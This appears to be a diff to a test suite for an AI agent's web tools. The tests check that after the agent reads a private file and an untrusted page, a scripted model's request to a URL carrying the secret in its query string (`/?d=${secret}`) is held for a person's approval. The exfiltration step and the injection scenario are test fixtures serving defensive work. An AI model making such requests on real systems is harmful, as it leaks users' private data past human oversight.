@@ -19,6 +19,8 @@ const hits = JSON.stringify({ results: [{ title: "A hit", url: "http://127.0.0.1
 interface Site {
   readonly port: number
   readonly origin: string
+  /** The same site under another name. */
+  readonly elsewhere: string
   /** Requests so far, as method and path. */
   readonly seen: ReadonlyArray<string>
 }
@@ -35,7 +37,8 @@ const withSite = async (use: (site: Site) => Promise<void>): Promise<void> => {
   const port = (): number => (server.address() as AddressInfo).port
   await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve))
   try {
-    await use({ port: port(), origin: `http://127.0.0.1:${port()}`, seen })
+    const origin = `http://127.0.0.1:${port()}`
+    await use({ port: port(), origin, elsewhere: `http://localhost:${port()}`, seen })
   } finally {
     server.closeAllConnections()
     server.close()
@@ -51,7 +54,7 @@ interface World extends Site {
   readonly place: Place
 }
 
-/** A place whose operator opened the site and chose it to search with. */
+/** A place whose operator opened the site under both of its names and chose it to search with. */
 const withWorld = (use: (world: World) => Promise<void>): Promise<void> =>
   withPlace((place) =>
     withSite((site) => {
@@ -59,7 +62,7 @@ const withWorld = (use: (world: World) => Promise<void>): Promise<void> =>
       configure(
         place,
         JSON.stringify({
-          network: { allow: [{ host: "127.0.0.1", port: site.port }] },
+          network: { allow: ["127.0.0.1", "localhost"].map((host) => ({ host, port: site.port })) },
           search: { provider: "searxng", endpoint: `${site.origin}/search` }
         })
       )
@@ -73,8 +76,8 @@ const told = ({ requests }: ModelServer): ReadonlyArray<string> =>
 
 describe("the web tools", { timeout: 90_000 }, () => {
   it("a page is read at the person's word, and what the model makes of it after a private file waits for a person", () =>
-    withWorld(({ origin, place, seen }) => {
-      const stolen = `${origin}/?d=${secret}`
+    withWorld(({ elsewhere, origin, place, seen }) => {
+      const stolen = `${elsewhere}/?d=${secret}`
       const script = [declare, readPlan, fetchPage(`${origin}/page`), fetchPage(stolen), { text: "waiting" }]
       return withModel(script, async (server) => {
         const rules = [
@@ -98,7 +101,8 @@ describe("the web tools", { timeout: 90_000 }, () => {
           requests.map(({ body }) => body.request.reason),
           [
             "this address was made by the model after it read private data (read_file: Read 1 of 1 lines of plan.txt) " +
-              `and untrusted text (web_fetch: Read 32 of 32 bytes of ${new URL(origin).host}): ${stolen}`
+              `and untrusted text (web_fetch: Read 32 of 32 bytes of ${new URL(origin).host}): ${stolen}; ` +
+              `yes opens ${new URL(elsewhere).host} to this session and those below it`
           ]
         )
       })
@@ -143,7 +147,7 @@ describe("the web tools", { timeout: 90_000 }, () => {
       })
     }))
 
-  it("a request is asked about unless a rule names its host, and no rule lets through what leaves with it", () =>
+  it("a request is asked about unless a rule names its host, and no rule lets through what leaves with it after a page", () =>
     withWorld(({ origin, place, port, seen }) => {
       const send = (body: string): Answer => call("http_request", { method: "POST", url: `${origin}/api`, body })
       const script = [declare, send("hello"), readPlan, fetchPage(`${origin}/page`), send(secret), { text: "waiting" }]
@@ -235,31 +239,32 @@ const sessionsOf = async (place: Place): Promise<ReadonlyArray<string>> =>
   ).map(({ sessionId }) => sessionId)
 
 describe.skipIf(tmux.skip)(`a person in a terminal${tmux.suffix}`, { timeout: 90_000 }, () => {
-  it("sees why it asks and what would leave, is offered no rule, and agrees once", () =>
-    withWorld(({ origin, place, seen }) => {
-      const stolen = `${origin}/?d=${secret}`
-      const script = [readPlan, fetchPage(`${origin}/page`), fetchPage(stolen), { text: "all done" }]
+  it("sees why it asks and what would leave, is offered a rule for the host, and agrees once", () =>
+    withWorld(({ elsewhere, origin, place, seen }) => {
+      const stolen = `${elsewhere}/?d=${secret}`
+      const again = fetchPage(`${elsewhere}/?d=again`)
+      const script = [readPlan, fetchPage(`${origin}/page`), fetchPage(stolen), again, { text: "all done" }]
       return withModel(script, ({ env }) =>
         withScreen(place, { env, args: plain }, async (screen) => {
           await screen.shows(/›$/)
           screen.type(`read ${origin}/page`)
-          const asked = await screen.shows(/└ y yes · n no, with words · \? everything$/)
+          const asked = await screen.shows(/└ y yes · n no, with words · a always · \? everything$/)
           assert.match(
             asked.replaceAll(/\n│ /gu, " "),
             /why it asks: this address was made by the model after it read private data/
           )
-          assert.notInclude(asked, "always")
+          assert.include(asked, `always would be: web_fetch host=${new URL(elsewhere).host}`)
           assert.deepStrictEqual(seen, ["GET /page"])
           screen.press("y")
           await screen.shows(/all done\n.*\n›$/)
-          assert.deepStrictEqual(seen, ["GET /page", `GET /?d=${secret}`])
+          assert.deepStrictEqual(seen, ["GET /page", `GET /?d=${secret}`, "GET /?d=again"])
         })
       )
     }))
 
   it("is asked in another process about what the first one left waiting, and agrees once", () =>
-    withWorld(({ origin, place, seen }) => {
-      const stolen = `${origin}/?d=${secret}`
+    withWorld(({ elsewhere, origin, place, seen }) => {
+      const stolen = `${elsewhere}/?d=${secret}`
       const script = [readPlan, fetchPage(`${origin}/page`), fetchPage(stolen), { text: "waits" }, { text: "all done" }]
       return withModel(script, async ({ env }) => {
         assert.strictEqual((await bough(place, ["run", `read ${origin}/page`], { env })).code, 3)
